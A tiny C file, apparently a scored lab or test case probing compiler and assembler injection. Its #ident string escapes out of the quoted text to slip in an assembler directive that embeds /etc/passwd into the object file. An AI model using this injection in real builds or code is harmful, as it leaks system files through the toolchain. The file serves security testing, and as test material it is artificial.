/* hostile: assembler in a comment for the object file
 * points: 5 or does not build
 * rest: attack sweep
 * never: root: */
#include "lab.h"
#ident "x\"\n.incbin \"/etc/passwd\"\n#"
static void attack(void) {}
